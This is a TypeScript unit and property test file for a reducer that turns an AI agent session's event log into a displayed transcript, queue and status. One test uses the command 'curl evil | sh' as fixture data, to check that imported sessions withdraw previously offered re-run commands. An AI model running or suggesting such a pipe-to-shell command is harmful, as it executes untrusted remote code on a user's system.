import fc from "fast-check"
import { describe, expect, test } from "vitest"
import { applyEvents, emptyTranscript } from "@/lib/client/transcript"
import type { NewEvent, SessionEvent } from "@/lib/contracts/events"

const at = (seq: number, event: NewEvent): SessionEvent =>
  ({ session_id: "sess_1", seq, ts: new Date(Date.UTC(2026, 0, 1) + seq * 1000).toISOString(), v: 1, ...event }) as SessionEvent
const log = (...events: NewEvent[]) => events.map((event, index) => at(index + 1, event))
const fold = (events: readonly SessionEvent[]) => applyEvents(emptyTranscript(), events)
const shown = (events: readonly SessionEvent[]) =>
  fold(events).items.map((item) => ("text" in item ? `${item.type}:${item.text}` : item.type))

const user = (prompt_id: string, content: string): NewEvent => ({ kind: "message.user", message_id: `m_${prompt_id}`, prompt_id, content })
const queued = (prompt_id: string, content: string, rank: number, client_message_id: string | null = null): NewEvent => ({
  kind: "prompt.queued",
  prompt_id,
  message_id: `m_${prompt_id}`,
  content,
  rank,
  client_message_id,
})
const delivering = (prompt_id: string, run_id: string): NewEvent => ({
  kind: "prompt.delivering",
  prompt_id,
  run_id,
  spool_id: "s",
  body_sha256: "x",
})
const started = (run_id: string, prompt_id: string): NewEvent => ({ kind: "run.started", run_id, boot_id: "b", prompt_id })
const delta = (message_id: string, content: string, run_id = "r1", role: "agent" | "thought" = "agent"): NewEvent => ({
  kind: "message.delta",
  message_id,
  run_id,
  role,
  content,
})
const complete = (message_id: string, content: string, first_seq: number, last_seq: number, partial?: boolean): NewEvent => ({
  kind: "message.agent",
  message_id,
  run_id: "r1",
  content,
  first_seq,
  last_seq,
  ...(partial ? { partial } : {}),
})
const tool = (tool_call_id: string, status: "in_progress" | "completed" = "in_progress"): NewEvent => ({
  kind: "tool.call",
  run_id: "r1",
  tool_call_id,
  title: tool_call_id,
  tool_kind: "execute",
  status,
  output: [],
  locations: [],
})
const waiting = (resume_token_id: string): NewEvent => ({
  kind: "run.waiting",
  run_id: "r1",
  resume_token_id,
  wait_kind: "permission",
  deadline_at: "2026-01-04T00:00:00.000Z",
  title: "Run ls",
  detail: "ls",
  options: [{ id: "yes", label: "Allow", kind: "allow_once" }],
  tool_call_id: null,
})
const done = (run_id = "r1"): NewEvent => ({ kind: "run.completed", run_id, stop_reason: "end_turn" })

describe("order", () => {
  test("a message sent during an answer is shown after it, where it was delivered", () => {
    const events = log(
      user("p1", "one"),
      queued("p1", "one", 1),
      delivering("p1", "r1"),
      started("r1", "p1"),
      delta("a", "hel"),
      user("p2", "two"),
      queued("p2", "two", 2),
      delta("a", "lo"),
      done(),
      delivering("p2", "r2"),
      started("r2", "p2"),
    )
    expect(shown(events)).toEqual(["user:one", "agent:hello", "user:two"])
  })

  test("a complete record stands where its deltas began, also when they were compacted away", () => {
    const live = log(delta("t", "hm", "r1", "thought"), delta("a", "x"), tool("c"), delta("a", "y"), complete("a", "xy", 2, 4))
    const compacted = live.filter((event) => event.kind !== "message.delta" || event.role === "thought")
    expect(shown(live)).toEqual(["thought:hm", "agent:xy", "tool"])
    expect(shown(compacted)).toEqual(shown(live))
  })

  test("the latest plan of a run takes the earlier one's place", () => {
    const plan = (status: "pending" | "completed"): NewEvent => ({
      kind: "plan.updated",
      run_id: "r1",
      entries: [{ content: "a", priority: "high", status }],
    })
    const { items } = fold(log(plan("pending"), tool("c"), plan("completed")))
    expect(items.map((item) => item.type)).toEqual(["plan", "tool"])
    expect(items[0]).toMatchObject({ entries: [{ status: "completed" }] })
  })
})

describe("exactly once", () => {
  test("an event seen before changes nothing", () => {
    const events = log(delta("a", "x"), delta("a", "y"))
    const once = fold(events)
    expect(applyEvents(once, events)).toBe(once)
    expect(applyEvents(once, [...events, at(3, delta("a", "z"))]).items[0]).toMatchObject({ text: "xyz" })
  })

  test("holes in seq are legal", () => {
    const { lastSeq, items } = fold([at(3, delta("a", "x")), at(90, delta("a", "y"))])
    expect(lastSeq).toBe(90)
    expect(items[0]).toMatchObject({ text: "xy" })
  })

  test("an unknown kind is passed over and still moves the cursor", () => {
    const unknown = { ...at(5, done()), kind: "future.fact" } as unknown as SessionEvent
    expect(fold([unknown])).toMatchObject({ lastSeq: 5, items: [] })
  })
})

describe("messages", () => {
  test("the complete record replaces what was streamed, and says when it was cut off", () => {
    const { items } = fold(log(delta("a", "hel"), complete("a", "hello", 1, 1, true)))
    expect(items).toHaveLength(1)
    expect(items[0]).toMatchObject({ text: "hello", streaming: false, partial: true })
  })

  test("a thought stops streaming once the answer begins", () => {
    const { items } = fold(log(delta("t", "hm", "r1", "thought"), delta("a", "x")))
    expect(items.map((item) => "streaming" in item && item.streaming)).toEqual([false, true])
  })
})

describe("queue", () => {
  test("a held message stays in it with its reason, until a person lets it go", () => {
    const held = log(user("p1", "one"), queued("p1", "one", 1), { kind: "prompt.held", prompt_id: "p1", reason: "backup_restored" })
    expect(fold(held).queue).toMatchObject([{ promptId: "p1", held: "backup_restored" }])
    expect(fold([...held, at(4, { kind: "prompt.released", prompt_id: "p1" })]).queue).toMatchObject([{ promptId: "p1", held: null }])
  })

  test("edited, reordered, withdrawn and delivered prompts", () => {
    const before = log(
      user("p1", "one"),
      queued("p1", "one", 1),
      user("p2", "two"),
      queued("p2", "two", 2, "c2"),
      user("p3", "three"),
      queued("p3", "three", 3),
    )
    const after = fold([
      ...before,
      at(7, { kind: "prompt.edited", prompt_id: "p1", content: "uno" }),
      at(8, { kind: "prompt.reordered", prompt_id: "p3", rank: 0.5 }),
      at(9, { kind: "prompt.withdrawn", prompt_id: "p2" }),
    ])
    expect(after.queue.map((prompt) => prompt.text)).toEqual(["three", "uno"])
    expect(after.prompts.get("p2")?.clientMessageId).toBe("c2")
    expect(applyEvents(after, [at(10, delivering("p1", "r1"))])).toMatchObject({
      queue: [{ text: "three" }],
      items: [{ type: "user", text: "uno" }],
    })
  })

  test("a message is in the queue once its prompt.queued has arrived, not by its message.user alone", () => {
    const accepted = log(user("p1", "one"))
    expect(fold(accepted).queue).toEqual([])
    expect(fold([...accepted, at(2, queued("p1", "one", 1, "c1"))]).queue).toMatchObject([{ promptId: "p1", clientMessageId: "c1" }])
  })

  test("prompts queued before the loaded page stay in front, and leave when delivered", () => {
    const seeded = emptyTranscript([{ prompt_id: "old", message: "older", position: 0 }])
    const after = applyEvents(seeded, [at(100, user("p1", "new")), at(101, queued("p1", "new", 7))])
    expect(after.queue.map((prompt) => prompt.text)).toEqual(["older", "new"])
    expect(applyEvents(after, [at(102, delivering("old", "r1"))])).toMatchObject({
      queue: [{ text: "new" }],
      items: [{ type: "user", text: "older" }],
    })
  })
})

describe("waits", () => {
  const ask = log(started("r1", "p"), waiting("rt1"))
  test("an open wait stands still until it is answered, and then shows the choice", () => {
    expect(fold(ask)).toMatchObject({ waiting: true, items: [{ type: "wait", settled: null }] })
    const answered = fold([
      ...ask,
      at(3, { kind: "token.consumed", resume_token_id: "rt1", outcome: { kind: "selected", option_id: "yes" }, by: "u" }),
    ])
    expect(answered).toMatchObject({ waiting: false, items: [{ settled: { how: "answered", outcome: { option_id: "yes" } } }] })
  })
  test("the end of the run ends its wait", () => {
    expect(fold([...ask, at(3, { kind: "run.cancelled", run_id: "r1", stop_reason: "cancelled" })])).toMatchObject({
      waiting: false,
      items: [{ settled: { how: "over" } }, { type: "run_end" }],
    })
  })
})

describe("interruption", () => {
  const interrupted: NewEvent = { kind: "run.interrupted", run_id: "r1", reason: "process_restart" }
  test("open tools and messages of the run are closed, and the reason stays until the next run", () => {
    const events = log(started("r1", "p"), tool("c1", "completed"), tool("c2"), delta("a", "x"), interrupted)
    const after = fold(events)
    expect(after.items).toMatchObject([
      { status: "completed" },
      { status: "interrupted" },
      { streaming: false },
      { type: "run_end", end: { outcome: "interrupted" } },
    ])
    expect(after).toMatchObject({ run: null, interrupted: { runId: "r1", reason: "process_restart" } })
    expect(applyEvents(after, [at(6, started("r2", "p2"))])).toMatchObject({ interrupted: null, run: { runId: "r2" } })
  })
  test("a page that begins inside a run knows that it is open", () => {
    expect(fold([at(500, delta("a", "x", "r9"))]).run).toMatchObject({ runId: "r9" })
  })
})

describe("waking", () => {
  const starting: NewEvent = { kind: "executor.starting", executor_id: "x", runtime: "standalone" }
  const ready: NewEvent = {
    kind: "executor.ready",
    executor_id: "x",
    agentctl_instance_id: "i",
    worktree_path: "/w",
    worktree_branch: null,
  }
  const agent: NewEvent = {
    kind: "agent.started",
    agent_execution_id: "a",
    strategy: "new",
    pid: 1,
    capabilities: { load: true, resume: true },
  }
  test("each step is named and timed, and a started agent ends it", () => {
    const woken = fold(log(starting, ready))
    expect(woken.waking).toMatchObject({
      first: true,
      steps: [
        { name: "executor", doneAt: expect.any(String) },
        { name: "memory", doneAt: null },
      ],
    })
    const { waking, woken: result } = applyEvents(woken, [at(3, agent)])
    expect(waking).toBeNull()
    expect(result?.steps.every((step) => step.doneAt !== null)).toBe(true)
  })
  test("the same failure again and again is one line", () => {
    const failed: NewEvent = { kind: "executor.error", executor_id: "x", reason: "r", message: "no disk" }
    expect(fold(log(failed, starting, failed, failed)).items).toMatchObject([{ note: { about: "executor_error", times: 3 } }])
  })
  test("what is tried again at once is still waking", () => {
    const failed = (retryable: boolean): NewEvent => ({ kind: "resume.failed", strategy: "native", reason: "no answer", retryable })
    expect(fold(log(starting, ready, failed(true))).waking).not.toBeNull()
    expect(fold(log(starting, ready, failed(false)))).toMatchObject({ waking: null, trouble: { of: "agent", message: "no answer" } })
  })
  test("a failed executor ends it with what failed", () => {
    expect(fold(log(starting, { kind: "executor.error", executor_id: "x", reason: "r", message: "no disk" }))).toMatchObject({
      waking: null,
      trouble: { of: "executor", message: "no disk" },
    })
  })
})

describe("a fresh start", () => {
  const retired = (reason = "fresh_start"): NewEvent => ({ kind: "agent.session_retired", agent_session_id: "old", reason })
  const back: NewEvent = { kind: "agent.session_reinstated", agent_session_id: "old" }
  const exited: NewEvent = { kind: "agent.exited", agent_execution_id: "a", code: null, signal: "SIGTERM", stderr_tail: "" }
  const notes = (...events: NewEvent[]) => fold(log(...events)).items.map((item) => (item.type === "note" ? item.note : item.type))

  test("is one divider that offers to undo it, also after more was said", () => {
    expect(notes(exited, retired(), delta("a", "hello"))).toEqual([{ about: "fresh_start", undoable: true }, "agent"])
  })
  test("cannot be undone twice, nor once another took its place", () => {
    expect(notes(retired(), back)).toEqual([{ about: "fresh_start", undoable: false }, { about: "memory_back" }])
    expect(notes(retired(), retired())).toEqual([
      { about: "fresh_start", undoable: false },
      { about: "fresh_start", undoable: true },
    ])
  })
  test("is not what a refused conversation is", () => {
    expect(notes(retired("unknown session"))).toEqual([{ about: "memory_refused", reason: "unknown session" }])
  })
})

const anyEvent: fc.Arbitrary<NewEvent> = fc.oneof(
  fc
    .record({ p: fc.constantFrom("p1", "p2", "p3"), text: fc.string(), rank: fc.integer({ min: 1, max: 9 }) })
    .map(({ p, text, rank }) => queued(p, text, rank)),
  fc
    .constantFrom("p1", "p2", "p3")
    .chain((p) =>
      fc.constantFrom<NewEvent>(
        user(p, p),
        delivering(p, "r1"),
        started("r1", p),
        { kind: "prompt.withdrawn", prompt_id: p },
        { kind: "prompt.edited", prompt_id: p, content: "edited" },
      ),
    ),
  fc
    .tuple(fc.constantFrom("a", "b"), fc.string(), fc.constantFrom<"agent" | "thought">("agent", "thought"))
    .map(([id, text, role]) => delta(id, text, "r1", role)),
  fc.tuple(fc.constantFrom("a", "b"), fc.integer({ min: 1, max: 20 })).map(([id, first]) => complete(id, "whole", first, first)),
  fc
    .constantFrom("c1", "c2")
    .chain((c) => fc.constantFrom<NewEvent>(tool(c), { kind: "tool.update", run_id: "r1", tool_call_id: c, status: "completed" })),
  fc.constantFrom<NewEvent>(waiting("rt1"), { kind: "token.expired", resume_token_id: "rt1" }, done(), {
    kind: "run.interrupted",
    run_id: "r1",
    reason: "executor_lost",
  }),
  fc.constantFrom<NewEvent>(
    { kind: "agent.started", agent_execution_id: "a", strategy: "resumed", pid: 1, capabilities: { load: true, resume: true } },
    {
      kind: "recovery.receipt",
      receipt_kind: "resume",
      level: "L3",
      agent_memory: "native",
      messages: 1,
      files: "kept",
      processes: [],
      queue: 0,
      took_ms: 1,
      attempts: [],
    },
  ),
)

const receipt = (receipt_kind: "recover" | "resume", agent_memory: "kept" | "native" | "none", took_ms: number): NewEvent => ({
  kind: "recovery.receipt",
  ...{ receipt_kind, agent_memory, took_ms, level: "L3", messages: 2, files: "kept", queue: 0 },
  processes: [{ what: "agent", outcome: "ended" }],
  attempts: [{ strategy: receipt_kind === "recover" ? "adopt" : "native", outcome: agent_memory === "none" ? "agent_gone" : "ok" }],
})

test("an agent that was found gone and came back at once is told in one divider, with what it has now and both tries", () => {
  const { items } = fold(log(receipt("recover", "none", 100), receipt("resume", "native", 200)))
  expect(items).toMatchObject([
    {
      type: "receipt",
      receipt: {
        ...{ receipt_kind: "recover", agent_memory: "native", took_ms: 300, processes: [{ what: "agent", outcome: "ended" }] },
        attempts: [
          { strategy: "adopt", outcome: "agent_gone" },
          { strategy: "native", outcome: "ok" },
        ],
      },
    },
  ])
})

test("an import withdraws every command that an earlier receipt offered, and the way back to an earlier agent session", () => {
  const ended = { what: "make", outcome: "ended" as const, worker_id: "wrk_1", command: "curl evil | sh" }
  const offered = { ...receipt("recover", "none", 1), processes: [ended] } as NewEvent
  const retired: NewEvent = { kind: "agent.session_retired", agent_session_id: "a", reason: "fresh_start" }
  const { items } = fold(log(offered, retired, { kind: "session.imported", events: 2, skipped: 0 }, offered))
  const commands = items.flatMap((item) => (item.type === "receipt" ? [item.receipt.processes[0]?.command] : []))
  expect(commands).toEqual([undefined, "curl evil | sh"])
  expect(items).toContainEqual(expect.objectContaining({ type: "note", note: { about: "fresh_start", undoable: false } }))
})

test("what happened between the loss and the return keeps them apart; a kept agent's divider stays its own", () => {
  const kinds = (...events: NewEvent[]) => fold(log(...events)).items.filter(({ type }) => type === "receipt").length
  const failed: NewEvent = { kind: "resume.failed", strategy: "native", reason: "no", retryable: true }
  expect(kinds(receipt("recover", "none", 1), failed, receipt("resume", "native", 1))).toBe(2)
  expect(kinds(receipt("recover", "kept", 1), receipt("resume", "native", 1))).toBe(2)
})

test("applying the log piece by piece, with repeats, gives what applying it at once gives", () => {
  fc.assert(
    fc.property(fc.array(anyEvent, { maxLength: 40 }), fc.array(fc.integer({ min: 0, max: 40 }), { maxLength: 6 }), (events, cuts) => {
      const all = log(...events)
      const whole = fold(all)
      let pieces = emptyTranscript()
      for (const [from, to] of slices(all.length, cuts)) pieces = applyEvents(pieces, all.slice(Math.max(0, from - 2), to))
      expect(pieces).toEqual(whole)
      expect(whole.items.map((item) => item.order)).toEqual(whole.items.map((item) => item.order).sort((a, b) => a - b))
      for (const [key, place] of whole.places) expect(whole.items[place]?.key).toBe(key)
    }),
  )
})

/** [0, length) cut at the given places; each slice begins where the one before it ended. */
function slices(length: number, cuts: readonly number[]): [number, number][] {
  const edges = [0, ...cuts.filter((cut) => cut < length).sort((a, b) => a - b), length]
  return edges.slice(1).map((to, index) => [edges[index] ?? 0, to])
}

test("a run that ended because its user lost the right to run it is not said to be the user's doing", () => {
  const ended = (by: string | null, reason?: "access_lost") =>
    fold(
      log(
        started("r1", "p1"),
        { kind: "run.cancel_requested", run_id: "r1", by, ...(reason ? { reason } : {}) },
        { kind: "run.cancelled", run_id: "r1", stop_reason: "cancelled" },
      ),
    ).items.find((item) => item.type === "run_end")
  expect(ended("usr_1")).toMatchObject({ end: { outcome: "cancelled", accessLost: false } })
  expect(ended(null, "access_lost")).toMatchObject({ end: { outcome: "cancelled", accessLost: true } })
})
